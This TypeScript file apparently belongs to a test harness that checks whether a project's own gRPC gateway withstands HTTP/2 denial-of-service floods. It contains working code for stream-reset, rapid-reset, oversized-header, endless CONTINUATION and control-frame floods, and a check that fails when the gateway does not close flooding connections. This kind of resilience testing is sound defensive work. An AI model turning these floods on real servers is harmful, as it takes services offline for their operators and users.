// Floods of HTTP/2's own frames, and of streams that are opened for nothing.
import { constants } from "node:http2";
import { setTimeout as delay } from "node:timers/promises";
import { GenerationService } from "../../../gen/es/steer/v1/generation_service_pb.js";
import { type Attack, type AttackRun, type Tally, together } from "../attack.ts";
import { RawConnection, withSessions } from "../connections.ts";
import { FRAME, frame, GREETING, headerBlock, SETTINGS_ACK } from "../http2-frames.ts";

const GENERATE = `/${GenerationService.typeName}/Generate`;
const CONNECTIONS = 4;
/** Streams that are reset together. */
const BURST = 100;
/** Bytes of frames that are written at once. */
const CHUNK = 64 * 1024;
const END_HEADERS = 4;
const END_STREAM = 1;
/** How long a write waits for its reader before the attacker looks whether its time is over. */
const PATIENCE_MS = 200;
/** With so many frames each of the connections has passed its bound. */
const FLOOD = 20_000;

const FIELDS = [
  [":method", "POST"],
  [":scheme", "http"],
  [":path", GENERATE],
  [":authority", "localhost"],
  ["content-type", "application/grpc"],
] as const;

/** A connection that floods, and the next one when the gateway has ended it. */
async function flood(
  run: AttackRun,
  chunkOf: (firstStream: number) => { bytes: Buffer; frames: number; streams: number },
  reads = true,
): Promise<void> {
  await together(CONNECTIONS, async () => {
    while (!run.isOver) {
      const connection = new RawConnection(run.target.grpc);
      if (await connection.opened()) {
        await connection.write(Buffer.concat([GREETING, SETTINGS_ACK]), PATIENCE_MS);
        if (!reads) connection.pause();
        let stream = 1;
        while (!run.isOver && !connection.isClosed && stream < 2 ** 30) {
          const { bytes, frames, streams } = chunkOf(stream);
          stream += 2 * streams;
          run.count(frames);
          await connection.write(bytes, PATIENCE_MS);
          await delay(0);
        }
        if (connection.isClosed) run.end("connection ended");
      }
      connection.close();
      await delay(5);
    }
  });
}

/** The same frames again and again. */
function repeated(one: Buffer): () => { bytes: Buffer; frames: number; streams: number } {
  const frames = Math.max(1, Math.floor(CHUNK / one.length));
  const bytes = Buffer.concat(Array<Buffer>(frames).fill(one));
  return () => ({ bytes, frames, streams: 0 });
}

/** Frames of streams that each come new. */
function perStream(count: number, make: (stream: number) => Buffer) {
  return (first: number) => {
    const all = Array.from({ length: count }, (_, index) => make(first + 2 * index));
    return { bytes: Buffer.concat(all), frames: count, streams: count };
  };
}

/** A slow machine may not get as far as a flood. */
const endsFloods = ({ sent, ends }: Tally): string | undefined =>
  sent > FLOOD && ends["connection ended"] === undefined ? "no connection ended" : undefined;

const headers = (stream: number, flags: number, block: Buffer): Buffer =>
  frame(FRAME.headers, flags, stream, block);

export const HTTP2_FLOODS: readonly Attack[] = [
  {
    name: "resets",
    cases: ["X6"],
    about: "4 connections that open and reset streams, and come again when they are ended",
    seconds: 4,
    prepare: () => (run) =>
      together(CONNECTIONS, () =>
        withSessions(
          run,
          async (session) => {
            const streams = Array.from({ length: BURST }, () => {
              const stream = session.request({
                ":method": "POST",
                ":path": GENERATE,
                "content-type": "application/grpc",
              });
              stream.on("error", () => {});
              return stream;
            });
            run.count(BURST);
            await delay(1);
            for (const stream of streams) stream.close(constants.NGHTTP2_CANCEL);
            await delay(1);
          },
          { pauseMs: 20 },
        ),
      ),
    wrong: endsFloods,
  },
  {
    name: "rapid-resets",
    cases: ["X6"],
    about: "HEADERS and RST_STREAM of each stream in one piece, as fast as they are taken",
    seconds: 3,
    prepare() {
      const block = headerBlock(FIELDS);
      const cancel = Buffer.from([0, 0, 0, constants.NGHTTP2_CANCEL]);
      const make = (stream: number): Buffer =>
        Buffer.concat([headers(stream, END_HEADERS, block), frame(FRAME.reset, 0, stream, cancel)]);
      return (run) => flood(run, perStream(BURST, make));
    },
    wrong: endsFloods,
  },
  {
    name: "headers",
    cases: ["X6"],
    about: "streams with 15 KB of headers each, as many as a connection takes",
    seconds: 3,
    prepare() {
      const many = Array.from(
        { length: 100 },
        (_, index) => [`x-${index}`, "v".repeat(110)] as const,
      );
      const block = headerBlock([...FIELDS, ...many]);
      const make = (stream: number): Buffer => headers(stream, END_HEADERS | END_STREAM, block);
      return (run) => flood(run, perStream(8, make));
    },
  },
  {
    name: "continuation",
    cases: ["X6"],
    about: "headers that go on in CONTINUATION frames without an end",
    seconds: 2,
    prepare() {
      const start = headers(1, 0, headerBlock(FIELDS));
      const more = repeated(frame(FRAME.continuation, 0, 1, headerBlock([["x", "y".repeat(100)]])));
      const empty = repeated(frame(FRAME.continuation, 0, 1, Buffer.alloc(0)));
      const chunk = (next: () => { bytes: Buffer; frames: number }) => (stream: number) => {
        const { bytes, frames } = next();
        const first = stream === 1 ? start : Buffer.alloc(0);
        return { bytes: Buffer.concat([first, bytes]), frames, streams: 1 };
      };
      return (run) =>
        Promise.all([flood(run, chunk(more)), flood(run, chunk(empty))]).then(() => {});
    },
    wrong: endsFloods,
  },
  {
    name: "control-frames",
    cases: ["X6"],
    about: "PING, SETTINGS, WINDOW_UPDATE and PRIORITY, answers read and not read",
    seconds: 4,
    prepare() {
      const setting = Buffer.from([0, 4, 0, 0, 255, 255]);
      const kinds = [
        [frame(FRAME.ping, 0, 0, Buffer.alloc(8)), true],
        [frame(FRAME.ping, 0, 0, Buffer.alloc(8)), false],
        [frame(FRAME.settings, 0, 0, setting), true],
        [frame(FRAME.settings, 0, 0, setting), false],
        [frame(FRAME.windowUpdate, 0, 0, Buffer.from([0, 0, 0, 1])), true],
        [frame(FRAME.priority, 0, 1, Buffer.alloc(5)), true],
      ] as const;
      return async (run) => {
        await Promise.all(kinds.map(([one, reads]) => flood(run, repeated(one), reads)));
      };
    },
  },
];
